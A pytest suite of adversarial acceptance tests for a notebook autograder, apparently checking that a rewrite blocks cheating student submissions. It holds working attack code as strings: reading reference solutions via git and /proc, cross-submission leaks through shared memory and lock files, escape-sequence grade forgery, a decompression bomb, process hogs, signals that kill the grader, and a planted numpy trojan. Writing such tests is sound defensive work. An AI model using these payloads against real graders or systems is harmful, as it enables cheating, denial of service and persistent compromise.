"""The attacks of issue 10 on ``cnnkit grade``, built as a student who has read autograder/ would
build them, and graded through the real CLI (see harness.py). Acceptance tests of the rewrite:
each test states the correct outcome, and each failed on the old code (OLD_CODE_RESULTS.md).

Submissions are copies of the real notebook 1 (20 points). An attack replaces one solution cell;
the other solution regions are stubbed, so the attacker's honest code earns 0 and every point it
gets is a point the attack stole. Attacks that read something they must not see are gates: the
reference solutions are defined only when the forbidden thing was read. Attacks that stall the
grader, abort it or need an order (writer before reader: ids sort, ``--jobs 1``) get their own
small batch; the others share one batch graded once.

Run against another kit: ``CNNKIT_UNDER_TEST=/path/to/kit pytest tests/adversarial/...``.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from nbformat import NotebookNode

from adversarial import harness as h
from adversarial.harness import FULL_MARKS, NB_FILE, TOKEN, Batch

pytestmark = [pytest.mark.slow]
if not sys.platform.startswith("linux"):
    pytest.skip("the attacks and the leftover checks are Linux-specific", allow_module_level=True)

#: The shared batch: ~20 submissions; the rewrite grades one in about a second.
MAIN_BOUND_S = 150.0
#: A batch of one attacker and one or two honest students.
SMALL_BOUND_S = 60.0
FEEDBACK_CAP = 64 * 1024
MESSAGE_CAP = 4096
MARK = f"cnnkit-adv-{TOKEN}".encode()


def code(template: str, **values: object) -> str:
    """``template`` with each ``@NAME@`` replaced by ``repr(values[NAME])``."""
    for key, value in values.items():
        template = template.replace(f"@{key}@", repr(value))
    return template


# --------------------------------------------------------------------------------------------
# Attack code (what goes into a solution cell). Top-level def/class/import are what the grader
# keeps; a class body runs while the notebook is loaded.
# --------------------------------------------------------------------------------------------

UNLOCK = code('''
def _adv_unlock():
    """Define every graded function from the reference solutions (only a gate calls this)."""
    exec(compile(@REF@, "<reference>", "exec"), globals())
''', REF=h.reference_code())

GIT = code('''
def _adv_places():
    """Folders that may hold the instructor's repository: the kit, the venv's, every ancestor
    of sys.path and of the working dir, the grader's working dir."""
    import os
    import sys
    found = [@KIT@, @VENV_REPO@]
    for p in [*sys.path, os.getcwd()]:
        p = os.path.abspath(p or ".")
        while len(p) > 1:
            found.append(p)
            p = os.path.dirname(p)
    found += ["/proc/self/cwd", "/proc/%d/cwd" % os.getppid()]
    return list(dict.fromkeys(found))


def _adv_git_show(rel):
    """``git show HEAD:rel`` in the first repository in reach that has it: (repo, text)."""
    import os
    import subprocess
    for repo in _adv_places():
        if not os.path.exists(os.path.join(repo, ".git")):
            continue
        try:
            r = subprocess.run(["git", "-c", "safe.directory=*", "-C", repo, "show",
                                "HEAD:" + rel], capture_output=True, timeout=60)
        except Exception:
            continue
        if r.returncode == 0 and r.stdout:
            return repo, r.stdout.decode("utf-8", "replace")
    return None, ""
''', KIT=str(h.KIT), VENV_REPO=str(h.VENV.parent))

GIT_SHOW = GIT + code('''

class _AdvGitShow:
    _repo, _text = _adv_git_show("notebooks/01_conv_arithmetic/conv_arithmetic.ipynb")
    if _text:
        import json as _json
        for _cell in _json.loads(_text)["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec("import numpy as np\\n" + "".join(_cell["source"]), globals())
        raise RuntimeError("cnnkit-adv: reference solutions from git show in " + _repo)
''')

CHECK_COPY = UNLOCK + GIT + '''

def _adv_hidden_checks():
    """The hidden check module: from git, or imported if it is importable."""
    repo, text = _adv_git_show("autograder/checks/conv_arithmetic.py")
    if "def build_checks" in text:
        return "git show in " + repo
    try:
        import autograder.checks.conv_arithmetic  # noqa: F401
    except Exception:
        return None
    return "import"


class _AdvCheckCopy:
    _how = _adv_hidden_checks()
    if _how:
        _adv_unlock()
        raise RuntimeError("cnnkit-adv: hidden check module copied (" + _how + ")")
'''

SEED = UNLOCK + '''

def _adv_seed_seen():
    """A process whose command line shows --seed (the grader, when /proc shows it)."""
    import os
    for pid in [str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                if b"--seed" in f.read():
                    return pid
        except OSError:
            pass
    return None


class _AdvSeed:
    _pid = _adv_seed_seen()
    if _pid:
        _adv_unlock()
        raise RuntimeError("cnnkit-adv: --seed read from /proc/%s/cmdline" % _pid)
'''

LIBC = '''
def _adv_libc():
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmat.restype = ctypes.c_void_p
    libc.shmdt.argtypes = [ctypes.c_void_p]
    return libc
'''

SHM_WRITE = code(LIBC + '''

class _AdvShmWrite:
    """A 1 MiB SysV segment, mode 0666, with a marker: outlives the sandbox without an IPC
    namespace."""
    import ctypes as _ct
    _libc = _adv_libc()
    _id = _libc.shmget(@KEY@, 1 << 20, 0o1000 | 0o666)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, _ct.c_void_p(-1).value):
            _ct.memmove(_addr, @MARK@, len(@MARK@))
            _libc.shmdt(_addr)
''', KEY=h.IPC_KEY, MARK=MARK)

SHM_READ = UNLOCK + code(LIBC + '''

class _AdvShmRead:
    """Earns the points only if an earlier submission's segment is still there."""
    import ctypes as _ct
    _libc = _adv_libc()
    _id = _libc.shmget(@KEY@, 0, 0)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0o10000)
        if _addr not in (None, _ct.c_void_p(-1).value):
            _seen = _ct.string_at(_addr, len(@MARK@)) == @MARK@
            _libc.shmdt(_addr)
            if _seen:
                _adv_unlock()
                raise RuntimeError("cnnkit-adv: read a SysV segment of an earlier submission")
''', KEY=h.IPC_KEY, MARK=MARK)

LOCK_DIRS = ("/run/lock", "/var/lock", "/dev/shm", "/var/tmp", "/tmp")
LOCK_WRITE = code('''
class _AdvLockWrite:
    """A file in every shared writable folder it can find."""
    for _d in @DIRS@:
        try:
            with open(_d + "/cnnkit-adv-" + @TOKEN@, "w") as _f:
                _f.write(@TOKEN@)
        except OSError:
            pass
''', DIRS=LOCK_DIRS, TOKEN=TOKEN)

LOCK_READ = UNLOCK + code('''

class _AdvLockRead:
    """Earns the points only if an earlier submission's file is still there."""
    for _d in @DIRS@:
        try:
            with open(_d + "/cnnkit-adv-" + @TOKEN@) as _f:
                _seen = _f.read() == @TOKEN@
        except OSError:
            _seen = False
        if _seen:
            _adv_unlock()
            raise RuntimeError("cnnkit-adv: read " + _d + " left by an earlier submission")
''', DIRS=LOCK_DIRS, TOKEN=TOKEN)

#: A load error that moves the cursor up, erases the line and prints a fake grade.
ESC_LOAD = '''
class _AdvEscape:
    raise RuntimeError("\\x1b[1A\\x1b[2K\\x1b[32m  a_honest  0 / 20\\x1b[0m\\x1b[8m")
'''
#: A points field with fake summary lines (newlines) and escape sequences.
ESC_POINTS = "3\n  a_honest  0 / 20\n  esc_points  20 / 20\x1b[8m"

BIG_RETURN = '''
def conv_layer_params(f, in_depth, num_filters):
    return "8" * 2_000_000
'''
BIG_RETURN_STACKED = '''
def stacked_receptive_field(num_layers, f=3):
    return "8" * 2_000_000


def stacked_params(num_layers, f, channels):
    return "8" * 2_000_000
'''

IMPORT_STMT = "import numpy as np; exec(" + repr(h.reference_code()) + ")\n"

NESTED_DIRS = code('''

class _AdvNest:
    """3000 nested folders where the sandbox writes its results (or its working dir)."""
    import os as _os
    try:
        _base = _os.path.join(_os.path.dirname(_os.getcwd()), "out")
        if not (_os.path.isdir(_base) and _os.access(_base, _os.W_OK)):
            _base = _os.getcwd()
        _fd = _os.open(_base, _os.O_RDONLY)
        _name = "cnnkit-adv-nest-" + @TOKEN@
        for _i in range(3000):
            _os.mkdir(_name, dir_fd=_fd)
            _next = _os.open(_name, _os.O_RDONLY, dir_fd=_fd)
            _os.close(_fd)
            _fd, _name = _next, "d"
        _os.close(_fd)
    except OSError:
        pass
''', TOKEN=TOKEN)

PLANT = '''
def _adv_plant(make_npz):
    """Plant out/000.json with this run's nonce (from ``ready``, or from main()'s frame) and an
    out/000.npz made by ``make_npz``, then end the child before it writes its own results."""
    import json
    import os
    import sys
    sbx = os.path.dirname(os.getcwd())
    out = os.path.join(sbx, "out")
    frame = sys._getframe()
    while frame is not None and "checks" not in frame.f_locals:
        frame = frame.f_back
    if frame is None or not os.path.isdir(out):
        return
    try:
        with open(os.path.join(sbx, "ready")) as f:
            nonce = f.read().strip()
    except OSError:
        nonce = frame.f_locals.get("plan", {}).get("nonce")
    index, name, _timeout, steps = frame.f_locals["checks"][0]
    base = os.path.join(out, "%03d" % index)
    make_npz(base + ".npz")
    with open(base + ".json", "w") as f:
        json.dump({"nonce": nonce, "check": name, "results": [0] * len(steps)}, f)
    os._exit(0)
'''

FIFO = PLANT + '''

def conv_output_size(n, f, stride=1, pad=0):
    import os
    _adv_plant(os.mkfifo)
    raise NotImplementedError()
'''

NPZ_BOMB = PLANT + '''

def _adv_bomb(path):
    """A ~4 MB npz whose one array inflates to 4032 MiB of zeros (deflate, one block repeated)."""
    import struct
    import zlib
    n = (4032 << 20) // 8
    d = "{'descr': '<f8', 'fortran_order': False, 'shape': (%d,), }" % n
    pad = (64 - (10 + len(d) + 1) % 64) % 64
    hdr = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(d) + pad + 1) + (d + " " * pad
                                                                           + "\\n").encode()
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(hdr) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(bytes(1 << 20)) + c.flush(zlib.Z_FULL_FLUSH)
    data = head + block * 4032 + c.flush()
    name, size = b"a0.npy", len(hdr) + n * 8
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), size,
                        len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data),
                          size, len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    with open(path, "wb") as f:
        f.write(local + data + central + end)


def conv_output_size(n, f, stride=1, pad=0):
    _adv_plant(_adv_bomb)
    raise NotImplementedError()
'''

TOGGLE = '''
def conv_output_size(n, f, stride=1, pad=0):
    """Ignores its alarm and toggles a result-like file in out/ forever: the old watchdog reads
    every change as progress."""
    import os
    import signal
    import time
    try:
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
    except (ValueError, OSError):
        pass
    out = os.path.join(os.path.dirname(os.getcwd()), "out")
    path = os.path.join(out if os.path.isdir(out) else os.getcwd(), "007.json")
    end = time.time() + 900
    while time.time() < end:
        try:
            open(path, "w").close()
            time.sleep(0.5)
            os.unlink(path)
            time.sleep(0.5)
        except BaseException:
            pass
    raise NotImplementedError()
'''

SLEEPERS = {gid: f'''
def {func}(*args, **kwargs):
    import time
    time.sleep(30)
    raise NotImplementedError()
''' for gid, func in (("conv_output_size_impl", "conv_output_size"),
                     ("conv_layer_params_impl", "conv_layer_params"),
                     ("conv_output_volume_impl", "conv_output_volume"),
                     ("pool_output_volume_impl", "pool_output_volume"))}

HOGS = '''
class _AdvHogs:
    """60 busy processes, each in its own session (they stop by themselves after 150 s)."""
    import os as _os
    import time as _time
    _end = _time.time() + 150
    for _i in range(60):
        try:
            _pid = _os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                _os.setsid()
                while _time.time() < _end:
                    pass
            finally:
                _os._exit(0)
'''

GRADER_PIDS = '''
def _adv_grader_pids():
    """The parent, and every process whose command line says autograder."""
    import os
    me, pids = os.getpid(), {os.getppid()}
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                with open("/proc/%s/cmdline" % p, "rb") as f:
                    if b"autograder" in f.read():
                        pids.add(int(p))
            except OSError:
                pass
    return sorted(pids - {me, 0, 1})
'''


def signal_grader(sig: str) -> str:
    return GRADER_PIDS + f'''

class _AdvSignal:
    import os as _os
    import signal as _signal
    for _pid in _adv_grader_pids():
        try:
            _os.kill(_pid, _signal.{sig})
        except OSError:
            pass
'''


DELETE_READY = '''
class _AdvReady:
    """Deletes the sandbox's ``ready`` file and dies before loaded.json exists."""
    import os as _os
    _ready = _os.path.join(_os.path.dirname(_os.getcwd()), "ready")
    if _os.path.isfile(_ready):
        try:
            _os.unlink(_ready)
        except OSError:
            pass
        else:
            _os._exit(0)
'''

TROJAN = code('''
class _AdvTrojan:
    """numpy/_distributor_init_local.py: imported by every later ``import numpy``."""
    import os as _os
    try:
        import numpy as _np
        with open(_os.path.join(_os.path.dirname(_np.__file__), "_distributor_init_local.py"),
                  "w") as _f:
            _f.write(@SRC@)
    except Exception:
        pass
''', SRC=f"# cnnkit-adv {TOKEN}: planted by a submission\nimport os\n"
        "os.replace = lambda *args, **kwargs: None  # results never appear\n")

IPYTHON = code('''
class _AdvIPython:
    """A startup file in the real home's IPython profile."""
    import os as _os
    import pwd as _pwd
    try:
        _d = _os.path.join(_pwd.getpwuid(_os.getuid()).pw_dir, ".ipython", "profile_default",
                           "startup")
        _os.makedirs(_d, exist_ok=True)
        with open(_os.path.join(_d, "00-cnnkit-adv-" + @TOKEN@ + ".py"), "w") as _f:
            _f.write("print('cnnkit-adv: this ran at IPython start')\\n")
    except Exception:
        pass
''', TOKEN=TOKEN)

DAEMON = code('''
class _AdvDaemon:
    """A process in its own session whose command line no longer names the sandbox."""
    import os as _os
    import sys as _sys
    if _os.fork() == 0:
        try:
            _os.setsid()
            _os.execv(_sys.executable, [_sys.executable, "-c",
                                        "import time; time.sleep(900)  # " + @TOKEN@])
        finally:
            _os._exit(0)
''', TOKEN=TOKEN)

LAST = "convnetjs_table_impl"  # the last solution cell: its code runs after the stubs


# --------------------------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------------------------


def put(subs: Path, student: str, nb: NotebookNode) -> Path:
    """``subs/<student>/conv_arithmetic.ipynb``."""
    return h.write_nb(nb, subs / student / NB_FILE)


def attack(cells: dict[str, str], *, stub: bool = True,
           points: dict[str, object] | None = None) -> NotebookNode:
    """Notebook 1 with ``cells`` replaced (see :func:`harness.notebook`)."""
    return h.notebook(cells, stub=stub, points=points)


def control_chars(text: str) -> list[str]:
    """The control characters in ``text`` with a little context, for messages."""
    return [repr(text[max(0, m.start() - 20): m.end() + 20])
            for m in h.CONTROL.finditer(text)][:5]


def assert_ran(batch: Batch, bound: float) -> None:
    """The batch ended by itself, with exit 0, within ``bound`` seconds."""
    run = batch.run
    assert not run.timed_out and not run.memory_killed and run.returncode == 0, run.why()
    assert run.wall_s < bound, f"took {run.wall_s:.0f} s (bound {bound:.0f} s)"


def assert_full_marks(batch: Batch, *students: str) -> None:
    for s in students:
        assert batch.total(s) == FULL_MARKS, batch.explain(s)


def assert_earns(batch: Batch, student: str, points: float) -> None:
    assert batch.earned(student) == points, batch.explain(student)


def assert_nothing_left(batch: Batch) -> None:
    left = batch.left
    assert not left.processes, f"processes left running: {left.processes}"
    assert not left.ipc, f"SysV IPC objects left (kind, key, id, creator uid): {left.ipc}"
    assert not left.files, f"files left: {[str(p) for p in left.files[:10]]}"


def small_batch(name: str, build: Callable[[Path], object], *, timeout: float = 2 * SMALL_BOUND_S,
                as_user: bool = False, memory_cap_gib: float = 8.0) -> Batch:
    """An attacker and one or two honest students, graded with ``--jobs 1``."""
    return h.grade_batch(name, build, timeout=timeout, as_user=as_user,
                         memory_cap_gib=memory_cap_gib)


# --------------------------------------------------------------------------------------------
# The shared batch
# --------------------------------------------------------------------------------------------

#: attacker -> what its honest code earns (stubs earn 0; nested_dirs is otherwise correct).
MAIN_ATTACKERS = {
    "big_points": 0.0, "big_returns": 0.0, "check_copy": 0.0, "copycat": 0.0,
    "esc_load": 0.0, "esc_points": 0.0, "git_show": 0.0, "import_stmt": 0.0,
    "ipc_1_writer": 0.0, "ipc_2_reader": 0.0, "lock_1_writer": 0.0, "lock_2_reader": 0.0,
    "m_s2": 0.0, "nested_dirs": FULL_MARKS, "proc_cwd": 0.0, "seed_cmdline": 0.0,
}
MAIN_HONEST = ("a_honest", "m_s1", "z_honest")


def build_main(subs: Path) -> None:
    put(subs, "a_honest", h.honest())
    put(subs, "z_honest", h.honest())
    put(subs, "m_s1", h.honest())
    put(subs, "git_show", attack({LAST: GIT_SHOW}))
    put(subs, "check_copy", attack({LAST: CHECK_COPY}))
    put(subs, "seed_cmdline", attack({LAST: SEED}))
    put(subs, "ipc_1_writer", attack({LAST: SHM_WRITE}))
    put(subs, "ipc_2_reader", attack({LAST: SHM_READ}))
    put(subs, "lock_1_writer", attack({LAST: LOCK_WRITE}))
    put(subs, "lock_2_reader", attack({LAST: LOCK_READ}))
    put(subs, "esc_load", attack({LAST: ESC_LOAD}))
    put(subs, "esc_points", attack({}, points={"test_conv_output_size": ESC_POINTS}))
    put(subs, "big_points", attack({}, points={"test_conv_output_size": "9" * 5_000_000}))
    put(subs, "big_returns", attack({"conv_layer_params_impl": BIG_RETURN,
                                     "stacked_impl": BIG_RETURN_STACKED}))
    put(subs, "import_stmt", attack({LAST: IMPORT_STMT}))
    last = next(c.source for c in h.honest().cells
                if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == LAST)
    put(subs, "nested_dirs", attack({LAST: last + NESTED_DIRS}, stub=False))
    # a symlink to a classmate's notebook, and one to the grader's own working dir
    (subs / "copycat").mkdir()
    (subs / "copycat" / NB_FILE).symlink_to(subs / "a_honest" / NB_FILE)
    (subs / "proc_cwd").mkdir()
    (subs / "proc_cwd" / NB_FILE).symlink_to(
        f"/proc/self/cwd/notebooks/{h.ASSIGNMENT}/{NB_FILE}")
    # s2 hands in its own (stubbed) notebook and one in a folder named after s1, newer
    put(subs, "m_s2", attack({}))
    planted = put(subs / "m_s2", "m_s1", attack({}))
    later = time.time() + 3600
    os.utime(planted, (later, later))


@pytest.fixture(scope="module")
def main() -> Batch:
    return h.grade_batch("main", build_main, jobs=1, timeout=2 * MAIN_BOUND_S)


def test_git_show_of_the_reference_solutions(main: Batch) -> None:
    """A class body runs ``git show HEAD:notebooks/...`` in the repository (its .git is in
    reach) and execs the reference solutions. Broken: 20/20 with no code."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "git_show", 0.0)


def test_copy_of_the_hidden_check_module(main: Batch) -> None:
    """The hidden check module is read (git show, or import); only then are the solutions
    defined. Broken: the gate opens, 20/20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "check_copy", 0.0)


def test_symlink_to_a_classmates_notebook(main: Batch) -> None:
    """copycat/conv_arithmetic.ipynb is a symlink to a_honest's notebook. Broken: collect
    follows it, copycat gets 20/20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "copycat", 0.0)


def test_symlink_to_proc_self_cwd(main: Batch) -> None:
    """A symlink to /proc/self/cwd/notebooks/...: the grader's working dir is the kit, so the
    link points at the reference notebook. Broken: 20/20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "proc_cwd", 0.0)


def test_folder_inside_a_folder_replaces_a_classmate(main: Batch) -> None:
    """s2 hands in m_s2/m_s1/conv_arithmetic.ipynb (newer). Broken: ids come from the innermost
    folder and the newest file wins, so m_s1's honest 20 becomes 0."""
    assert_ran(main, MAIN_BOUND_S)
    assert_full_marks(main, "m_s1")
    assert_earns(main, "m_s2", 0.0)


def test_sysv_shared_memory_between_submissions(main: Batch) -> None:
    """ipc_1_writer leaves a SysV segment; ipc_2_reader (graded next) earns the points only if it
    sees it. Broken: no IPC namespace, the reader gets 20 and the segment outlives the batch."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "ipc_2_reader", 0.0)
    assert not main.left.ipc, f"SysV objects left: {main.left.ipc}"


def test_run_lock_files_between_submissions(main: Batch) -> None:
    """lock_1_writer writes /run/lock/cnnkit-adv-TOKEN (and /dev/shm, /var/tmp...); the reader
    earns the points only if it finds it. Broken: the reader gets 20, the file stays."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "lock_2_reader", 0.0)
    planted = [str(p) for p in main.left.files if p.name == f"cnnkit-adv-{TOKEN}"]
    assert not planted, f"files left in shared folders: {planted}"


def test_escape_sequences_in_a_load_error(main: Batch) -> None:
    """A class body raises an error whose text moves the cursor and prints a fake grade.
    Broken: the raw ESC sequences reach the terminal summary and the reports."""
    assert_ran(main, MAIN_BOUND_S)
    lines = [ln for ln in main.run.stdout.splitlines() if "esc_load" in ln]
    assert lines, f"no terminal line for esc_load: {main.run.why()}"
    assert not control_chars("\n".join(lines)), control_chars("\n".join(lines))
    texts = list(h.strings(main.reports.get("esc_load", {})))
    assert not control_chars("\n".join(texts)), control_chars("\n".join(texts))


def test_escape_sequences_in_a_points_field(main: Batch) -> None:
    """A test cell's ``points`` is a string with newlines, fake summary lines and ESC. Broken:
    the terminal shows a_honest at 0 and esc_points at 20 while grades.csv says the opposite."""
    assert_ran(main, MAIN_BOUND_S)
    seen: dict[str, list[float]] = {}
    for student, total in main.stdout_totals():
        seen.setdefault(student, []).append(total)
    for student in ("a_honest", "esc_points"):
        assert seen.get(student) == [main.total(student)], (
            f"{student}: terminal says {seen.get(student)}, grades.csv {main.total(student)}")
    assert not control_chars(main.run.stdout), control_chars(main.run.stdout)


def test_a_5_mb_points_string(main: Batch) -> None:
    """A ``points`` field of 5 MB. Broken: copied uncapped into the problem text, the terminal
    line, feedback.html and results.json."""
    assert_ran(main, MAIN_BOUND_S)
    big = {k: v for k, v in main.feedback_sizes.items()
           if k.startswith("big_points/") and v >= FEEDBACK_CAP}
    assert not big, f"feedback files of big_points: {big} bytes"
    longest = max((len(ln) for ln in main.run.stdout.splitlines()), default=0)
    assert longest < MESSAGE_CAP, f"a terminal line of {longest} characters"


def test_2_mb_return_values(main: Batch) -> None:
    """Functions return 2 MB strings. Broken: the messages quote them whole (several MB of
    feedback per student)."""
    assert_ran(main, MAIN_BOUND_S)
    big = {k: v for k, v in main.feedback_sizes.items()
           if k.startswith("big_returns/") and v >= FEEDBACK_CAP}
    assert not big, f"feedback files of big_returns: {big} bytes"
    long = {k: v for k, v in main.long_texts.items() if v >= MESSAGE_CAP}
    assert not long, f"messages of {long} characters"


def test_seed_visible_in_the_parents_command_line(main: Batch) -> None:
    """The child reads /proc/<ppid>/cmdline (and every other /proc/*/cmdline); the solutions
    are defined only if one shows --seed. Broken: the grader's command line is in view, 20/20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "seed_cmdline", 0.0)


def test_3000_nested_folders_in_out(main: Batch) -> None:
    """An otherwise correct submission makes 3000 nested folders in the sandbox's out/. Broken:
    cleaning up hits the recursion limit, the grade becomes "grade by hand" (0) and the sandbox
    dir, plan.json with the hidden cases included, stays in the temp dir."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "nested_dirs", FULL_MARKS)
    tmp = [str(p) for p in main.left.files if "/tmp" in str(p)]
    assert not tmp, f"left in the temp dirs: {tmp[:5]}"


def test_import_and_statement_on_one_line(main: Batch) -> None:
    """``import numpy as np; exec(reference)`` on one line: extraction keeps imports, and must
    not keep the statement after the semicolon. Broken: the statement runs, 20/20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_earns(main, "import_stmt", 0.0)


def test_main_batch_honest_students_get_full_marks(main: Batch) -> None:
    """Every honest student of the shared batch (a_honest, m_s1, z_honest) gets 20."""
    assert_ran(main, MAIN_BOUND_S)
    assert_full_marks(main, *MAIN_HONEST)


def test_main_batch_attackers_earn_what_their_code_earns(main: Batch) -> None:
    """Every attacker of the shared batch earns what its code earns without the attack."""
    assert_ran(main, MAIN_BOUND_S)
    wrong = {s: (main.total(s), want) for s, want in MAIN_ATTACKERS.items()
             if main.earned(s) != want}
    assert not wrong, f"(got, honest code earns): {wrong}"


def test_main_batch_leaves_nothing_behind(main: Batch) -> None:
    """No process, SysV object or file of the shared batch outlives it (checked by pid, key,
    creator uid and the session token in /tmp, /run/lock, /dev/shm, the venv, the repo, HOME)."""
    assert_ran(main, MAIN_BOUND_S)
    assert_nothing_left(main)


def test_main_batch_terminal_and_csv_are_clean_and_agree(main: Batch) -> None:
    """grades.csv and the terminal have no control characters, and the terminal shows each
    student once, with the total grades.csv has."""
    assert_ran(main, MAIN_BOUND_S)
    assert not control_chars(main.csv_text), control_chars(main.csv_text)
    assert not control_chars(main.run.stdout), control_chars(main.run.stdout)
    lines: dict[str, list[float]] = {}
    for student, total in main.stdout_totals():
        lines.setdefault(student, []).append(total)
    wrong = {s: (lines.get(s), main.total(s)) for s in main.rows
             if lines.get(s) != [main.total(s)]}
    assert not wrong, f"(terminal, grades.csv): {wrong}"


def test_main_batch_every_feedback_file_is_small(main: Batch) -> None:
    """Every file in OUT/<student>/ is under 64 KiB and every text in results.json under 4096
    characters."""
    assert_ran(main, MAIN_BOUND_S)
    big = {k: v for k, v in main.feedback_sizes.items() if v >= FEEDBACK_CAP}
    assert not big, f"files of {big} bytes"
    long = {k: v for k, v in main.long_texts.items() if v >= MESSAGE_CAP}
    assert not long, f"messages of {long} characters"


# --------------------------------------------------------------------------------------------
# Attacks on the result channel and the watchdog: one small batch each (they stall)
# --------------------------------------------------------------------------------------------


def test_fifo_planted_as_the_result_file() -> None:
    """The child plants out/000.json with the nonce (read from ``ready``) and a FIFO as
    out/000.npz, then exits. Broken: the parent blocks in open() forever."""
    batch = small_batch("fifo", lambda s: (put(s, "a_fifo", attack({
        "conv_output_size_impl": FIFO})), put(s, "b_honest", h.honest())))
    assert_ran(batch, SMALL_BOUND_S)
    assert_full_marks(batch, "b_honest")
    assert_earns(batch, "a_fifo", 0.0)
    assert_nothing_left(batch)


def test_npz_declaring_a_huge_array() -> None:
    """A planted ~4 MB npz that inflates to 4 GiB. Broken: the parent decompresses it (its peak
    memory grows by 4 GiB; out of memory on a small machine)."""
    batch = small_batch("npz", lambda s: (put(s, "a_bomb", attack({
        "conv_output_size_impl": NPZ_BOMB})), put(s, "b_honest", h.honest())),
        timeout=240.0, memory_cap_gib=12.0)
    assert batch.run.maxrss_kib < 2 * 2**20, (
        f"a process of the grading peaked at {batch.run.maxrss_kib / 2**20:.1f} GiB")
    assert_ran(batch, 90.0)
    assert_full_marks(batch, "b_honest")
    assert_earns(batch, "a_bomb", 0.0)
    assert_nothing_left(batch)


def test_watchdog_fed_by_toggling_a_file() -> None:
    """The first check ignores its alarm and creates/deletes out/007.json every half second.
    Broken: each change looks like progress; one submission costs the whole budget (minutes)."""
    batch = small_batch("toggle", lambda s: (put(s, "a_toggle", attack({
        "conv_output_size_impl": TOGGLE})), put(s, "b_honest", h.honest())), timeout=120.0)
    assert_ran(batch, 90.0)
    assert_full_marks(batch, "b_honest")
    assert_earns(batch, "a_toggle", 0.0)
    assert_nothing_left(batch)


def test_busy_processes_starve_the_next_child() -> None:
    """60 busy processes in their own sessions while the attacker's checks sleep; with
    ``--jobs 2`` on one core the other worker's children (which import torch) must still start.
    Broken: a child misses its start-up window and the SandboxError aborts the whole batch."""

    def build(s: Path) -> None:
        put(s, "a_hogs", attack({**SLEEPERS, LAST: HOGS}))
        put(s, "b_honest", h.honest())
        put(s, "c_honest", h.honest("same rule as torch.nn.Conv2d"))
        put(s, "d_honest", h.honest("same rule as torch.nn.Conv2d"))

    batch = h.grade_batch("hogs", build, jobs=2, cpus={min(os.sched_getaffinity(0))},
                          timeout=240.0)
    assert_ran(batch, 150.0)
    assert_full_marks(batch, "b_honest", "c_honest", "d_honest")
    assert_earns(batch, "a_hogs", 0.0)
    assert_nothing_left(batch)


# --------------------------------------------------------------------------------------------
# Collect: one bad entry must be skipped and reported, everyone else graded
# --------------------------------------------------------------------------------------------


def _deep_json(s: Path) -> None:
    path = s / "zz_deep" / NB_FILE
    path.parent.mkdir()
    path.write_text('{"nbformat": 4, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}")


def _dir_named_ipynb(s: Path) -> None:
    (s / "zz_dir" / NB_FILE).mkdir(parents=True)
    (s / "zz_dir" / NB_FILE / "notes.txt").write_text("a folder, not a notebook\n")


def _dev_zero(s: Path) -> None:
    (s / "zz_zero").mkdir()
    (s / "zz_zero" / NB_FILE).symlink_to("/dev/zero")


def _bad_name(s: Path) -> None:
    h.write_nb(h.notebook({}), s / "my notes (final).ipynb")


COLLECT = {
    "deeply_nested_json": (_deep_json, "zz_deep"),
    "directory_named_ipynb": (_dir_named_ipynb, "zz_dir"),
    "symlink_to_dev_zero": (_dev_zero, "zz_zero"),
    "badly_named_extra_file": (_bad_name, "my notes (final)"),
}


@pytest.mark.parametrize("case", sorted(COLLECT))
def test_collect_skips_a_bad_entry(case: str) -> None:
    """One bad entry next to an honest student: a notebook nested 100,000 lists deep, a folder
    named conv_arithmetic.ipynb, a symlink to /dev/zero, a file whose name is no student id.
    Broken: collect raises (RecursionError, IsADirectoryError, a read of /dev/zero until memory
    runs out, CourseError) and nobody is graded."""
    build, entry = COLLECT[case]
    batch = small_batch(case, lambda s: (put(s, "a_honest", h.honest()), build(s)),
                        memory_cap_gib=3.0)
    assert_ran(batch, SMALL_BOUND_S)
    assert_full_marks(batch, "a_honest")
    assert_earns(batch, entry, 0.0)
    assert_nothing_left(batch)


# --------------------------------------------------------------------------------------------
# As a normal user (how most instructors grade)
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sig", ["SIGKILL", "SIGSTOP"])
def test_user_child_signals_the_grader(sig: str) -> None:
    """The child sends SIGKILL or SIGSTOP to its parent and to every process whose command line
    says autograder. Broken: same uid, so the grader dies (no grades) or stops (forever)."""
    batch = small_batch(f"user-{sig}", lambda s: (
        put(s, "a_signal", attack({LAST: signal_grader(sig)})), put(s, "b_honest", h.honest())),
        as_user=True, timeout=90.0)
